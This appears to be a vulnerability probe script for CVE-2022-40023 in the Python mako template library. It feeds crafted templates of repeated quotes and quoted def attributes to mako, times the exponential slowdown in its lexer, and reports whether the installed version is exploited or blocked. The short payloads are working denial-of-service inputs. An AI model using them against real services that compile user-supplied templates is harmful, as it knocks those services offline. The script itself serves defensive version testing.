# /// vertice-probe
# id = "PYSEC-2022-260"
# aliases = ["CVE-2022-40023", "GHSA-v973-fxgf-6xhp"]
# package = "mako"
# summary = """\
#   The pattern for the start of a template tag backtracks over quotes, so a crafted template takes exponential time \
#   to compile."""
# severity = [{ type = "CVSS_V3", score = "CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:N/I:N/A:H" }]
# cwe = ["CWE-1333"]
# kind = "redos"
# symbols = ["mako.template.Template", "mako.lexer.Lexer", "mako.lookup.TemplateLookup"]
#
# [[affected]]
# package = "mako"
# ranges = [{ type = "ECOSYSTEM", events = [{ introduced = "0" }, { fixed = "1.2.2" }] }]
#
# [cases]
# attack = "a tag of double quotes takes exponential time"
# [cases.variants]
# lexer = "quoted attributes of a def tag, given to the Lexer"
# [cases.controls]
# render = "a template with a def, a call and quoted attributes is rendered"
#
# [test]
# vulnerable = "1.2.1"
# fixed = "1.2.2"
# ///
"""CVE-2022-40023: exponential backtracking over quotes in tags."""

import json
import sys
import time


def judge(work, small, large, limit, what):
    """Is the CPU time for `large` more than `limit` times that for `small` (the least of several runs each)?"""
    runs, spent, clear = {small: [], large: []}, 0.0, False
    # In turn, so that a busy neighbour slows both; and more of them while it is quick or not clear.
    while len(runs[large]) < 3 or (spent < 5 and not clear) or (spent < 0.2 and len(runs[large]) < 50):
        for size in (small, large, small):
            begin = time.process_time()
            answer = work(size)
            runs[size].append(time.process_time() - begin)
            spent += runs[size][-1]
        # Below 2 ms the clock's noise is larger than the growth.
        ratio = min(runs[large]) / max(min(runs[small]), 0.002)
        clear = not limit / 1.5 < ratio < limit * 1.5
    evidence = "%d -> %d %s: %.1f ms -> %.1f ms CPU, x%.1f (limit x%g); %s" % (
        small,
        large,
        what,
        min(runs[small]) * 1000,
        min(runs[large]) * 1000,
        ratio,
        limit,
        answer,
    )
    return ("exploited" if ratio > limit else "blocked"), evidence


def refuse(parse):
    from mako.exceptions import SyntaxException

    try:
        parse()
    except SyntaxException:
        return "SyntaxException"
    raise RuntimeError("the unfinished tag was accepted")


def attack():
    from mako.template import Template

    return judge(lambda size: refuse(lambda: Template("<%0" + '"' * size)), 26, 32, 4, "quotes")


def lexer():
    from mako.lexer import Lexer

    return judge(lambda size: refuse(lambda: Lexer("<%def name='" + "a' b='" * size).parse()), 16, 20, 4, "attributes")


def render():
    from mako.template import Template

    text = "<%def name=\"row(a, b='x')\">[${a}|${b}]</%def>${row(1)} <%block name='c'>c</%block>"
    got = Template(text).render().strip()
    return ("works" if got == "[1|x] c" else "broken"), got


CASES = {"attack": attack, "lexer": lexer, "render": render}

if __name__ == "__main__":
    try:
        outcome, evidence = CASES[sys.argv[1] if len(sys.argv) > 1 else "attack"]()
    except BaseException as error:  # could not reach the code: never "blocked"
        outcome, evidence = "error", "%s: %s" % (type(error).__name__, error)
    print(json.dumps({"outcome": outcome, "evidence": evidence}))
